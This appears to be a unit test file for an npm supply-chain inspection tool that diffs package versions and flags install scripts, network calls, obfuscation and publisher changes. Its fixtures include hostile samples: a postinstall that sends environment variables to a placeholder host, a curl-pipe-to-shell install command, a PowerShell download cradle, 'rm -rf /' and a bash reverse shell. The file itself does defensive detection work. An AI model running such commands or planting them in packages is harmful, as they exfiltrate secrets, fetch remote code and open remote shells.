// inspect's comparison of two unpacked package trees, on small trees written to temp folders.
import { afterAll, describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { inspectTrees } from '../../src/inspect/diff.js';
import { codeHeuristics } from '../../src/inspect/heuristics.js';
import { filesRunBy, scanCalls } from '../../src/inspect/install-surface.js';
import type { InspectInput, VersionMeta } from '../../src/inspect/types.js';
import { diffLines, unifiedDiff } from '../../src/util/line-diff.js';
import { chooseBase, parseSpec, resolveVersion, versionMeta, type Packument } from '../../src/inspect/fetch.js';
import { clean, formatInspectText } from '../../src/report/inspect-text.js';
import { makeStyle } from '../../src/report/text.js';
import { GuardError } from '../../src/errors.js';

const dirs: string[] = [];
afterAll(() => {
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

function tree(files: Record<string, string | Buffer>): string {
  const root = mkdtempSync(join(tmpdir(), 'si-inspect-unit-'));
  dirs.push(root);
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(root, dirname(path)), { recursive: true });
    writeFileSync(join(root, path), content);
  }
  return root;
}

const pkgJson = (version: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name: 'demo', version, ...extra }, null, 2) + '\n';
const meta = (version: string, extra: Partial<VersionMeta> = {}): VersionMeta => ({ version, provenance: false, ...extra });

function compare(before: Record<string, string | Buffer> | null, after: Record<string, string | Buffer>, over: Partial<InspectInput> = {}) {
  return inspectTrees({
    name: 'demo',
    target: { dir: tree(after), meta: meta('1.1.0') },
    base: before ? { dir: tree(before), meta: meta('1.0.0'), reason: 'previous', detail: 'previous release' } : null,
    ...over,
  });
}

/** ~6 KB of minified-looking code on one line. */
function minified(): string {
  const parts: string[] = [];
  for (let i = 0; i < 200; i++) parts.push(`function a${i}(b,c){return b*c+${i}}`);
  return `!function(){${parts.join(';')}}();`;
}

/** Readable, indented code of a similar size. */
function readable(): string {
  const parts: string[] = [];
  for (let i = 0; i < 200; i++) parts.push(`function add${i}(left, right) {\n  // adds ${i}\n  return left * right + ${i};\n}\n`);
  return parts.join('\n');
}

describe('files added, removed and changed', () => {
  it('lists each with sizes, and diffs changed text files', () => {
    const r = compare(
      { 'package.json': pkgJson('1.0.0'), 'index.js': 'a\nb\nc\nd\ne\nf\ng\n', 'old.js': 'x\n', 'same.txt': 'same\n' },
      { 'package.json': pkgJson('1.1.0'), 'index.js': 'a\nb\nc\nD\ne\nf\ng\nh\n', 'new.js': 'module.exports = 1;\n', 'same.txt': 'same\n' },
    );
    expect(r.files.added.map((f) => f.path)).toEqual(['new.js']);
    expect(r.files.removed.map((f) => f.path)).toEqual(['old.js']);
    expect(r.files.changed.map((f) => f.path)).toEqual(['index.js', 'package.json']);
    expect(r.summary).toMatchObject({ filesAdded: 1, filesRemoved: 1, filesChanged: 2, filesUnchanged: 1 });
    const index = r.files.changed.find((f) => f.path === 'index.js')!;
    expect(index).toMatchObject({ binary: false, linesAdded: 2, linesRemoved: 1 });
    expect(index.diff).toBe(
      ['--- a/index.js', '+++ b/index.js', '@@ -1,7 +1,8 @@', 'a', 'b', 'c', '-d', '+D', 'e', 'f', 'g', '+h'].map((l, i) => (i > 2 && !/^[+-]/.test(l) ? ` ${l}` : l)).join('\n'),
    );
    expect(r.summary.concerns).toEqual([]);
  });

  it('notes binary files instead of diffing them', () => {
    const png = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]);
    const r = compare(
      { 'package.json': pkgJson('1.0.0'), 'logo.png': png },
      { 'package.json': pkgJson('1.0.0'), 'logo.png': Buffer.concat([png, Buffer.from([1, 2, 3])]), 'data.bin': Buffer.from([0xff, 0xfe, 0x00, 0x01]) },
    );
    expect(r.files.changed).toEqual([{ path: 'logo.png', sizeBefore: 12, sizeAfter: 15, binary: true, diffOmitted: 'binary' }]);
    expect(r.files.added).toEqual([{ path: 'data.bin', size: 4, binary: true }]);
    const text = formatInspectText(r, makeStyle(false));
    expect(text).toContain('~ logo.png  binary, 12 B -> 15 B');
    expect(text).toContain('+ data.bin  4 B, binary');
  });

  it('compares a first release with nothing: every file is added', () => {
    const r = compare(null, { 'package.json': pkgJson('1.1.0'), 'index.js': 'x\n' });
    expect(r.against).toBeNull();
    expect(r.files.added.map((f) => f.path)).toEqual(['index.js', 'package.json']);
  });
});

describe('install scripts', () => {
  it('reports an added postinstall and the network call in the file it runs', () => {
    const r = compare(
      { 'package.json': pkgJson('1.0.0'), 'index.js': 'module.exports = 1;\n' },
      {
        'package.json': pkgJson('1.1.0', { scripts: { postinstall: 'node scripts/setup.js', test: 'vitest' } }),
        'index.js': 'module.exports = 1;\n',
        'scripts/setup.js': "const send = require('./send');\nsend(process.env);\n",
        'scripts/send.js': "const https = require('node:https');\nmodule.exports = (env) => https.request({ host: 'collect.example', method: 'POST' }).end(JSON.stringify(env));\n",
      },
    );
    expect(r.installScripts.changes).toEqual([{ event: 'postinstall', change: 'added', after: 'node scripts/setup.js' }]);
    expect(r.installScripts.filesRun).toEqual(['scripts/setup.js', 'scripts/send.js']);
    expect(r.installCalls).toEqual([expect.objectContaining({ where: 'scripts/send.js', event: 'postinstall', line: 1, kind: 'network', match: 'https', new: true })]);
    expect(r.summary.concerns.map((c) => c.code)).toEqual(['install-script-added', 'install-network-call']);
    expect(r.summary.concerns[1]!.message).toBe('network calls reached from install scripts, in scripts/send.js: https');
    // The new file the script runs is shown whole.
    expect(r.files.added.find((f) => f.path === 'scripts/setup.js')!.diff).toContain("+const send = require('./send');");
    const text = formatInspectText(r, makeStyle(false));
    expect(text).toContain('+ postinstall: node scripts/setup.js  (new)');
    expect(text).toMatch(/! scripts\/send\.js:1 {2}network https {2}const https = require\('node:https'\);/);
  });

  it('finds network and process calls in the command itself', () => {
    const r = compare(
      { 'package.json': pkgJson('1.0.0', { scripts: { install: 'node build.js' } }), 'build.js': '' },
      { 'package.json': pkgJson('1.1.0', { scripts: { install: 'curl -s https://x.example/i.sh | sh' } }), 'build.js': '' },
    );
    expect(r.installScripts.changes).toEqual([{ event: 'install', change: 'changed', before: 'node build.js', after: 'curl -s https://x.example/i.sh | sh' }]);
    expect(r.installCalls).toEqual([expect.objectContaining({ where: 'scripts.install', kind: 'network', match: 'curl', new: true })]);
    expect(r.summary.concerns.map((c) => c.code)).toEqual(['install-script-changed', 'install-network-call']);
  });

  it('marks calls already present in the comparison version as not new', () => {
    const files = (v: string) => ({
      'package.json': pkgJson(v, { scripts: { postinstall: 'node install.js' } }),
      'install.js': "const { execSync } = require('child_process');\nexecSync('node-gyp rebuild');\n",
    });
    const r = compare(files('1.0.0'), { ...files('1.1.0'), 'install.js': files('1.1.0')['install.js'] + "require('https').get('https://x.example');\n" });
    expect(r.installCalls.map((c) => [c.match, c.new])).toEqual([
      ['child_process', false],
      ['execSync()', false],
      ['https', true],
    ]);
    expect(r.summary.concerns.map((c) => c.code)).toEqual(['install-network-call']);
  });

  it('counts binding.gyp appearing as an install script (npm runs node-gyp rebuild), and scans it', () => {
    const r = compare(
      { 'package.json': pkgJson('1.0.0') },
      { 'package.json': pkgJson('1.1.0'), 'binding.gyp': "{ 'targets': [{ 'target_name': 'x', 'sources': ['<!(curl -s https://x.example)'] }] }\n" },
    );
    expect(r.installScripts.changes).toEqual([{ event: 'install', change: 'added', after: 'node-gyp rebuild', implicit: true }]);
    expect(r.installScripts.filesRun).toEqual(['binding.gyp']);
    expect(r.summary.concerns.map((c) => c.code)).toEqual(['binding-gyp-added', 'install-network-call', 'install-process-call']);
    expect(r.installCalls.map((c) => c.match)).toEqual(['curl', 'gyp <!( )']);
  });

  it('says when the registry manifest and the tarball disagree on install scripts', () => {
    const r = inspectTrees({
      name: 'demo',
      target: { dir: tree({ 'package.json': pkgJson('1.1.0', { scripts: { preinstall: 'node x.js' } }), 'x.js': '' }), meta: meta('1.1.0', { manifestInstallScripts: {} }) },
      base: null,
    });
    expect(r.summary.concerns[0]).toMatchObject({ code: 'manifest-mismatch' });
    expect(r.summary.concerns[0]!.message).toContain('preinstall: registry manifest has none, tarball "node x.js"');
  });
});

describe('minified or obfuscated code', () => {
  it('flags an added minified file and not readable code', () => {
    const r = compare({ 'package.json': pkgJson('1.0.0') }, { 'package.json': pkgJson('1.1.0'), 'dist/bundle.js': minified(), 'lib/plain.js': readable() });
    expect(r.suspiciousCode.map((f) => f.path)).toEqual(['dist/bundle.js']);
    expect(r.suspiciousCode[0]!.change).toBe('added');
    expect(r.suspiciousCode[0]!.reasons.map((x) => x.code)).toEqual(['long-lines', 'dense']);
    expect(r.summary.concerns).toEqual([{ code: 'obfuscated-code', message: 'minified or obfuscated new code in 1 file: dist/bundle.js' }]);
  });

  it('says when a changed file was already minified (a bundle rebuilt), and raises no concern', () => {
    const r = compare({ 'package.json': pkgJson('1.0.0'), 'dist/bundle.js': minified() }, { 'package.json': pkgJson('1.1.0'), 'dist/bundle.js': minified() + '\n' });
    expect(r.suspiciousCode).toEqual([expect.objectContaining({ path: 'dist/bundle.js', change: 'changed', alreadyInBase: ['long-lines', 'dense'] })]);
    expect(r.summary.concerns).toEqual([]);
  });

  it('each heuristic', () => {
    const codes = (t: string) => codeHeuristics(t).map((x) => x.code);
    expect(codes(readable())).toEqual([]);
    expect(codes(`var s = "${'\\x68\\x74\\x74\\x70'.repeat(20)}";\n`)).toEqual(['escapes']);
    expect(codes(Array.from({ length: 10 }, (_, i) => `var _0x${(0xa1b2 + i).toString(16)} = ${i};`).join('\n'))).toEqual(['obfuscator-names']);
    expect(codes("eval(atob('ZXhpdCgp'));\n")).toEqual(['dynamic-code']);
    expect(codes("new Function('a', 'b' + 'c')\n")).toEqual(['dynamic-code']);
    expect(codes("const g = new Function('return this')();\n")).toEqual([]);
    expect(codes('re.eval("1")\n')).toEqual([]);
    const b64 = Buffer.from(Array.from({ length: 2000 }, (_, i) => (i * 7919) % 256)).toString('base64');
    expect(codes(`const payload = "${b64}";\n`)).toEqual(['long-lines', 'dense', 'base64-blob']);
    // An inline source map is not a payload, nor minified code.
    expect(codes(`${readable()}\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,${b64}\n`)).toEqual([]);
    expect(codes('const isAdmin = false; /*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n')).toEqual(['bidi-control']);
  });
});

describe('dependencies, publisher and provenance', () => {
  it('lists added, removed and changed dependencies of each kind', () => {
    const r = compare(
      { 'package.json': pkgJson('1.0.0', { dependencies: { a: '^1.0.0', b: '^2.0.0' }, peerDependencies: { react: '^17' } }) },
      { 'package.json': pkgJson('1.1.0', { dependencies: { a: '^1.1.0', c: '1.0.0' }, optionalDependencies: { fsevents: '^2' }, peerDependencies: { react: '^17' } }) },
    );
    expect(r.dependencies).toEqual([
      { field: 'dependencies', name: 'a', change: 'changed', before: '^1.0.0', after: '^1.1.0' },
      { field: 'dependencies', name: 'c', change: 'added', after: '1.0.0' },
      { field: 'dependencies', name: 'b', change: 'removed', before: '^2.0.0' },
      { field: 'optionalDependencies', name: 'fsevents', change: 'added', after: '^2' },
    ]);
    expect(r.summary.concerns).toEqual([{ code: 'dependency-added', message: 'new dependencies: c@1.0.0, fsevents@^2' }]);
  });

  it('reports a new publisher and lost provenance', () => {
    const files = { 'package.json': pkgJson('1.0.0') };
    const r = inspectTrees({
      name: 'demo',
      target: { dir: tree(files), meta: meta('1.1.0', { publisher: 'mallory' }) },
      base: { dir: tree(files), meta: meta('1.0.0', { publisher: 'alice', provenance: true }), reason: 'lockfile', detail: 'locked in package-lock.json' },
    });
    expect(r.publisher).toEqual({ base: 'alice', target: 'mallory', changed: true });
    expect(r.provenance).toEqual({ base: true, target: false, changed: true });
    expect(r.summary.concerns.map((c) => c.code)).toEqual(['provenance-lost', 'publisher-changed']);
  });
});

describe('helpers', () => {
  it('diffLines finds a minimal edit script', () => {
    const ops = diffLines(['a', 'b', 'c', 'a', 'b', 'b', 'a'], ['c', 'b', 'a', 'b', 'a', 'c']);
    expect(ops.filter((o) => o.op !== ' ').length).toBe(5); // the classic Myers example: D = 5
    expect(ops.filter((o) => o.op !== '+').map((o) => o.line)).toEqual(['a', 'b', 'c', 'a', 'b', 'b', 'a']);
    expect(ops.filter((o) => o.op !== '-').map((o) => o.line)).toEqual(['c', 'b', 'a', 'b', 'a', 'c']);
    // Past the edit cap: shown as replaced, still a correct script.
    const capped = diffLines(['1', '2', '3'], ['4', '5', '6'], 2);
    expect(capped.map((o) => `${o.op}${o.line}`)).toEqual(['-1', '-2', '-3', '+4', '+5', '+6']);
  });

  it('diffLines: the edit cap bounds the work; past it the changed region shows as replaced, at it line by line', () => {
    const a = ['1', 'x', '2', 'y', '3'];
    const b = ['4', 'x', '5', 'y', '6'];
    // Six edits (three lines replaced) with x and y kept: within a cap of six.
    expect(diffLines(a, b, 6).map((o) => `${o.op}${o.line}`)).toEqual(['-1', '+4', ' x', '-2', '+5', ' y', '-3', '+6']);
    // A cap of five: no line-by-line match; everything removed, then everything added.
    expect(diffLines(a, b, 5).map((o) => `${o.op}${o.line}`)).toEqual(['-1', '-x', '-2', '-y', '-3', '+4', '+x', '+5', '+y', '+6']);
  });

  it('diffLines: random edits reconstruct both sides, with no more edits than an LCS table allows', () => {
    let seed = 42;
    const rand = (n: number) => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed % n;
    };
    for (let round = 0; round < 200; round++) {
      const a = Array.from({ length: rand(30) }, () => 'abcde'[rand(5)]!);
      const b = Array.from({ length: rand(30) }, () => 'abcde'[rand(5)]!);
      const ops = diffLines(a, b);
      expect(ops.filter((o) => o.op !== '+').map((o) => o.line)).toEqual(a);
      expect(ops.filter((o) => o.op !== '-').map((o) => o.line)).toEqual(b);
      const lcs: number[][] = Array.from({ length: a.length + 1 }, () => new Array<number>(b.length + 1).fill(0));
      for (let i = a.length - 1; i >= 0; i--) for (let j = b.length - 1; j >= 0; j--) lcs[i]![j] = a[i] === b[j] ? lcs[i + 1]![j + 1]! + 1 : Math.max(lcs[i + 1]![j]!, lcs[i]![j + 1]!);
      expect(ops.filter((o) => o.op !== ' ').length).toBe(a.length + b.length - 2 * lcs[0]![0]!);
    }
  });

  it('unifiedDiff cuts long diffs and long lines', () => {
    const a = Array.from({ length: 100 }, (_, i) => `line ${i}`);
    const b = a.map((l, i) => (i % 10 === 0 ? `${l} changed ${'x'.repeat(50)}` : l));
    const { text, truncated } = unifiedDiff('f.txt', diffLines(a, b), { context: 1, maxLines: 20, maxLineChars: 30 });
    expect(truncated).toBe(true);
    expect(text.split('\n')).toHaveLength(21);
    expect(text).toContain('... (diff cut at 20 lines)');
    expect(text).toMatch(/\+line 0 changed x+\.\.\. \[\d+ more characters\]/);
  });

  it('filesRunBy finds the files a command runs', () => {
    const files = new Map<string, unknown>(['install.js', 'hook.js', 'scripts/build.sh', 'lib/x.js', 'bin/setup'].map((p) => [p, {}]));
    expect(filesRunBy('node install', { files })).toEqual(['install.js']);
    expect(filesRunBy('node -r ./hook.js --max-old-space-size 100 ./install.js && sh scripts/build.sh', { files })).toEqual(['hook.js', 'install.js', 'scripts/build.sh']);
    expect(filesRunBy('cross-env A=1 node lib/x', { files })).toEqual(['lib/x.js']);
    expect(filesRunBy('node -e "require(\'./lib/x\')"', { files })).toEqual(['lib/x.js']);
    expect(filesRunBy('./bin/setup || node-gyp rebuild', { files })).toEqual(['bin/setup']);
    expect(filesRunBy('node ../outside.js', { files })).toEqual([]);
  });

  it('scanCalls does not take a RegExp exec for a process call', () => {
    expect(scanCalls('const m = /x/.exec(s); pattern.exec(s)')).toEqual([]);
    expect(scanCalls("cp.exec('ls')").map((c) => c.match)).toEqual(['exec()']);
    expect(scanCalls('exec("rm -rf /")').map((c) => c.match)).toEqual(['exec()']);
    expect(scanCalls('powershell -c iex (New-Object Net.WebClient)').map((c) => c.match)).toEqual(['Net.WebClient', 'powershell']);
    expect(scanCalls('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1').map((c) => c.match)).toEqual(['/dev/tcp']);
  });

  it('scanCalls skips comment lines in code, not in commands', () => {
    const text = "// see https://example.com/docs\n * uses require('https') below\nconst u = 'https://x.example';\n";
    expect(scanCalls(text, { code: true }).map((c) => [c.line, c.match])).toEqual([[3, 'url']]);
    expect(scanCalls(text).map((c) => c.line)).toEqual([1, 2, 3]);
  });

  it('clean() shows terminal control characters as escapes', () => {
    expect(clean('ok\x1b[2Jhidden\u202etxt')).toBe('ok\\x1b[2Jhidden\\u202etxt');
  });
});

describe('choosing the comparison version', () => {
  const packument: Packument = {
    name: 'demo',
    'dist-tags': { latest: '2.0.0', next: '3.0.0-beta.1' },
    versions: Object.fromEntries(['1.0.0', '1.1.0', '2.0.0', '1.1.1', '3.0.0-beta.1'].map((v) => [v, { name: 'demo', version: v }])),
    time: { '1.0.0': '2024-01-01T00:00:00Z', '1.1.0': '2024-02-01T00:00:00Z', '2.0.0': '2024-03-01T00:00:00Z', '3.0.0-beta.1': '2024-03-15T00:00:00Z', '1.1.1': '2024-04-01T00:00:00Z' },
  };

  it('prefers --against, then a different locked version, then the previous release of the same line', () => {
    expect(chooseBase(packument, 'demo', '2.0.0', { against: '1.0.0' }).choice).toMatchObject({ version: '1.0.0', reason: 'against' });
    expect(chooseBase(packument, 'demo', '2.0.0', { against: 'next' }).choice).toMatchObject({ version: '3.0.0-beta.1', reason: 'against' });
    const locked = { versions: [{ version: '1.1.0', integrity: 'sha512-x' }], lockfile: '/p/package-lock.json' };
    expect(chooseBase(packument, 'demo', '2.0.0', { locked }).choice).toEqual({ version: '1.1.0', reason: 'lockfile', detail: 'locked in package-lock.json', integrity: 'sha512-x' });
    // The target itself is locked: fall back to the previous release.
    expect(chooseBase(packument, 'demo', '2.0.0', { locked: { versions: [{ version: '2.0.0' }] } }).choice).toMatchObject({ version: '1.1.0', reason: 'previous' });
    // 1.1.1 was published after 2.0.0 and the beta: its previous release is 1.1.0, not 2.0.0 or the beta.
    expect(chooseBase(packument, 'demo', '1.1.1').choice).toMatchObject({ version: '1.1.0', reason: 'previous' });
    expect(chooseBase(packument, 'demo', '1.0.0').choice).toBeNull();
  });

  it('refuses an unknown version, a range, or comparing a version with itself', () => {
    expect(() => resolveVersion(packument, 'demo', '9.9.9')).toThrow(/demo@9\.9\.9 is not published/);
    expect(() => resolveVersion(packument, 'demo', '^1.0.0')).toThrow(/is a range/);
    expect(() => chooseBase(packument, 'demo', '2.0.0', { against: 'latest' })).toThrow(GuardError);
    expect(resolveVersion(packument, 'demo', 'latest')).toBe('2.0.0');
  });

  it('parses name@version, scoped names included', () => {
    expect(parseSpec('@scope/pkg@1.2.3')).toEqual({ name: '@scope/pkg', version: '1.2.3' });
    expect(parseSpec('left-pad@latest')).toEqual({ name: 'left-pad', version: 'latest' });
    expect(() => parseSpec('left-pad')).toThrow(/give the version/);
    expect(() => parseSpec('@scope/pkg')).toThrow(/give the version/);
    expect(() => parseSpec('../x@1.0.0')).toThrow(GuardError);
  });

  it('versionMeta reads publisher, provenance and the manifest install scripts', () => {
    const doc: Packument = {
      versions: {
        '1.0.0': {
          _npmUser: { name: 'alice' },
          gypfile: true,
          scripts: { postinstall: 'node x.js', test: 't' },
          dist: { integrity: 'sha512-y', tarball: 'http://r/x.tgz', attestations: { url: 'u', provenance: { predicateType: 'https://slsa.dev/provenance/v1' } } },
        },
      },
      time: { '1.0.0': '2024-01-01T00:00:00Z' },
    };
    expect(versionMeta(doc, '1.0.0')).toEqual({
      version: '1.0.0',
      provenance: true,
      provenancePredicate: 'https://slsa.dev/provenance/v1',
      publishedAt: '2024-01-01T00:00:00Z',
      publisher: 'alice',
      integrity: 'sha512-y',
      tarball: 'http://r/x.tgz',
      manifestInstallScripts: { postinstall: 'node x.js', install: 'node-gyp rebuild' },
    });
  });
});
